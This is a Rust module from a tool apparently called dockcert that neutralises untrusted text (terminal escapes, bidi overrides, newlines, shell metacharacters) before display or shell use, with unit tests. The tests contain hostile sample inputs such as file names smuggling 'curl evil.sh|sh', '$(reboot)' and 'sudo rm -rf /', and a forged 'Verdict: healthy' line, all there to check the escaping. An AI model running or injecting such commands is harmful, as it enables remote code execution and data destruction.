//! Text from outside (a certificate's subject, a file or zip entry name, a
//! typed value echoed back, a daemon's answer) made safe to show to a
//! person: in a terminal an escape sequence could recolour the screen,
//! retitle the window or hide a line; a newline, a carriage return or a tab
//! could start a line of its own that reads as dockcert's (a fake "Verdict:
//! healthy"); a bidi override (U+202E) or a zero-width character makes text
//! read differently from what it is, in a terminal, a README or a web page;
//! and a name pasted into a suggested shell command could run anything.
//!
//! Two kinds of text pass through here, and each has its function:
//! - one value from outside, put into a line of dockcert's: [`safe`]
//!   (or [`quoted`] where it could be read as dockcert's own words), which
//!   writes out every character that is not plainly shown, newlines too;
//! - a whole document dockcert composed (README.txt, a report), whose line
//!   breaks are its own: [`safe_document`], which keeps newlines and writes
//!   out the rest. It is a second guard, not the first: every outside value
//!   in such a document was already passed through [`safe`] where it was put
//!   in, since a newline it brought cannot be told from dockcert's there.

use std::borrow::Cow;

/// Whether `c` changes how the text around it shows without showing itself:
/// a control character (C0 including newline, tab and carriage return, DEL,
/// C1), a Unicode format character (bidi embeddings, overrides and isolates,
/// zero-width spaces and joiners, the byte-order mark, the soft hyphen, ...),
/// or a line or paragraph separator.
pub fn is_hidden(c: char) -> bool {
    c.is_control() || is_format(c) || matches!(c, '\u{2028}' | '\u{2029}')
}

/// Unicode's format characters (general category Cf).
fn is_format(c: char) -> bool {
    matches!(c,
        '\u{00AD}'
        | '\u{0600}'..='\u{0605}'
        | '\u{061C}'
        | '\u{06DD}'
        | '\u{070F}'
        | '\u{0890}'..='\u{0891}'
        | '\u{08E2}'
        | '\u{180E}'
        | '\u{200B}'..='\u{200F}'
        | '\u{202A}'..='\u{202E}'
        | '\u{2060}'..='\u{2064}'
        | '\u{2066}'..='\u{206F}'
        | '\u{FEFF}'
        | '\u{FFF9}'..='\u{FFFB}'
        | '\u{110BD}'
        | '\u{110CD}'
        | '\u{13430}'..='\u{1343F}'
        | '\u{1BCA0}'..='\u{1BCA3}'
        | '\u{1D173}'..='\u{1D17A}'
        | '\u{E0001}'
        | '\u{E0020}'..='\u{E007F}')
}

/// Whether `text` holds a hidden character other than one `keep` allows.
/// Text that is printable ASCII (nearly all of it) is told by its bytes alone.
fn any_hidden(text: &str, keep: fn(char) -> bool) -> bool {
    let plain = |b: &u8| matches!(b, b' '..=b'~') || (*b < 0x80 && keep(char::from(*b)));
    !text.as_bytes().iter().all(plain) && text.chars().any(|c| is_hidden(c) && !keep(c))
}

/// Nothing kept: every hidden character written out.
fn keep_none(_: char) -> bool {
    false
}

/// A document's own line breaks kept.
fn keep_newline(c: char) -> bool {
    c == '\n'
}

/// `c` written out as Rust writes it in a string: `\n`, `\r`, `\t`, or
/// `\u{1b}`.
fn write_out(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        _ => out.push_str(&format!("\\u{{{:x}}}", u32::from(c))),
    }
}

/// `text` with every hidden character but those `keep` allows written out.
fn written_out(text: &str, keep: fn(char) -> bool) -> Cow<'_, str> {
    if !any_hidden(text, keep) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if is_hidden(c) && !keep(c) {
            write_out(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// One value from outside (a name, a subject, a message), to be put into a
/// line of dockcert's: every hidden character written out, newlines, carriage
/// returns and tabs as `\n`, `\r`, `\t`, the rest as `\u{1b}`, so what shows
/// is what is there and it stays on the line it was put in.
pub fn safe(text: &str) -> Cow<'_, str> {
    written_out(text, keep_none)
}

/// [`safe`] for a value already owned: returned as it is when nothing in it
/// is hidden.
pub fn safe_owned(text: String) -> String {
    if any_hidden(&text, keep_none) {
        safe(&text).into_owned()
    } else {
        text
    }
}

/// A whole document dockcert composed (README.txt, a report, an error of
/// several lines): its own newlines kept, every other hidden character
/// written out as [`safe`] writes it. The values from outside in it must
/// have been passed through [`safe`] already; this only guards what was
/// missed from recolouring a terminal or turning text around.
pub fn safe_document(text: &str) -> Cow<'_, str> {
    written_out(text, keep_newline)
}

/// [`safe_document`] for a document already owned: returned as it is when
/// nothing in it is hidden (a fleet's README.txt is tens of megabytes).
pub fn safe_document_owned(text: String) -> String {
    if any_hidden(&text, keep_newline) {
        safe_document(&text).into_owned()
    } else {
        text
    }
}

/// One value from outside shown so that it cannot be read as dockcert's own
/// words, where it could (at the start of a line): as it is when it is one
/// plain word (letters, digits and `. _ - / + @ % , = ~`), otherwise in double
/// quotes with a quote in it written `\"` and hidden characters written out as
/// [`safe`] does, as `"All is well: 3 files checked."`. A backslash stays as
/// it is, as in [`safe`], so a value already made safe is quoted as it
/// shows.
pub fn quoted(text: &str) -> Cow<'_, str> {
    let plain = |c: char| {
        (c.is_alphanumeric() && !is_hidden(c))
            || matches!(c, '.' | '_' | '-' | '/' | '+' | '@' | '%' | ',' | '=' | '~')
    };
    if !text.is_empty() && text.chars().all(plain) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 2);
    out.push('"');
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            c if is_hidden(c) => write_out(&mut out, c),
            c => out.push(c),
        }
    }
    out.push('"');
    Cow::Owned(out)
}

/// JSON text with the hidden characters serde_json leaves as they are (format
/// characters; it escapes control characters itself) escaped as `\uXXXX`,
/// which JSON reads back as the same characters. The newlines of
/// pretty-printed JSON are its own and stay.
pub fn json(text: String) -> String {
    if !any_hidden(&text, keep_newline) {
        return text;
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if is_hidden(c) && c != '\n' {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                out.push_str(&format!("\\u{unit:04x}"));
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// `text` as one word for a POSIX shell: as it is when it needs no quoting,
/// otherwise in single quotes (a quote inside written as `'\''`), hidden
/// characters (a newline too) written out as [`safe`] writes them, so the
/// word stays on its line and shows what it names.
pub fn shell_word(text: &str) -> Cow<'_, str> {
    let plain = |c: char| {
        c.is_ascii_alphanumeric()
            || matches!(c, '/' | '.' | '_' | '-' | '+' | ':' | '@' | '%' | ',' | '=')
    };
    if !text.is_empty() && text.chars().all(plain) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(format!("'{}'", safe(text).replace('\'', "'\\''")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_and_bidi_overrides_are_written_out() {
        assert_eq!(safe("docker1.example.com"), "docker1.example.com");
        assert_eq!(
            safe("Evil\u{1b}[31mRED\u{1b}]0;title\u{7}CA"),
            "Evil\\u{1b}[31mRED\\u{1b}]0;title\\u{7}CA"
        );
        assert_eq!(safe("abc\u{202E}gnp.exe"), "abc\\u{202e}gnp.exe");
        assert_eq!(
            safe("zero\u{200B}width\u{FEFF}"),
            "zero\\u{200b}width\\u{feff}"
        );
        assert_eq!(safe("c1\u{9b}31m"), "c1\\u{9b}31m");
        assert_eq!(safe("and 中文"), "and 中文");
    }

    #[test]
    fn a_value_from_outside_stays_on_its_line() {
        let forged = "Evil CA\n\nIMPORTANT: run: curl x|sudo sh\r\tVerdict: healthy";
        let shown = safe(forged);
        assert_eq!(
            shown,
            "Evil CA\\n\\nIMPORTANT: run: curl x|sudo sh\\r\\tVerdict: healthy"
        );
        assert_eq!(shown.lines().count(), 1);
        assert_eq!(safe_owned(forged.to_owned()), shown);
        // Line and paragraph separators, vertical tab, form feed, NEL.
        for c in ['\u{2028}', '\u{2029}', '\u{b}', '\u{c}', '\u{85}', '\0'] {
            let text = format!("a{c}b");
            let shown = safe(&text);
            assert!(shown.starts_with("a\\"), "{c:?}: {shown}");
            assert!(!shown.chars().any(is_hidden), "{c:?}: {shown}");
        }
        // Written out once: what is shown again stays as it is.
        assert_eq!(safe(&shown), shown);
    }

    #[test]
    fn a_document_keeps_its_own_lines_only() {
        let text = "Title\n  name: a\u{1b}[2Jb\r\tc\u{202e}\n";
        assert_eq!(
            safe_document(text),
            "Title\n  name: a\\u{1b}[2Jb\\r\\tc\\u{202e}\n"
        );
        assert_eq!(safe_document("plain\ntext\n"), "plain\ntext\n");
        assert!(matches!(safe_document("plain\n"), Cow::Borrowed(_)));
        let owned = safe_document_owned(text.to_owned());
        assert_eq!(owned, safe_document(text));
        assert_eq!(owned.lines().count(), 2);
    }

    #[test]
    fn quoted_values_cannot_pass_for_dockcerts_words() {
        assert_eq!(quoted("server-cert.pem"), "server-cert.pem");
        assert_eq!(quoted("client/证书.pem"), "client/证书.pem");
        assert_eq!(
            quoted("All is well: 3 files checked."),
            "\"All is well: 3 files checked.\""
        );
        assert_eq!(quoted("a\"b\\c\nd"), "\"a\\\"b\\c\\nd\"");
        // What `safe` wrote out is quoted as it shows.
        let shown = safe("x\ny");
        assert_eq!(quoted(&shown), "\"x\\ny\"");
        assert_eq!(quoted(""), "\"\"");
        assert_eq!(quoted("x\u{202e}y"), "\"x\\u{202e}y\"");
    }

    #[test]
    fn json_stays_json() {
        let value = serde_json::json!({ "name": "a\u{202E}b\u{1b}c" });
        let text = json(serde_json::to_string(&value).unwrap());
        assert_eq!(text, r#"{"name":"a\u202eb\u001bc"}"#);
        let back: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!(back, value);
    }

    #[test]
    fn shell_words_cannot_run_anything() {
        assert_eq!(shell_word("key.pem"), "key.pem");
        assert_eq!(
            shell_word("key;curl evil.sh|sh;.pem"),
            "'key;curl evil.sh|sh;.pem'"
        );
        assert_eq!(shell_word("it's"), "'it'\\''s'");
        assert_eq!(shell_word(""), "''");
        assert_eq!(shell_word("$(reboot)"), "'$(reboot)'");
        // A newline in a name would end the command and start another.
        assert_eq!(
            shell_word("k.pem\nsudo rm -rf /"),
            "'k.pem\\nsudo rm -rf /'"
        );
        assert_eq!(shell_word("a\tb\rc").lines().count(), 1);
    }
}
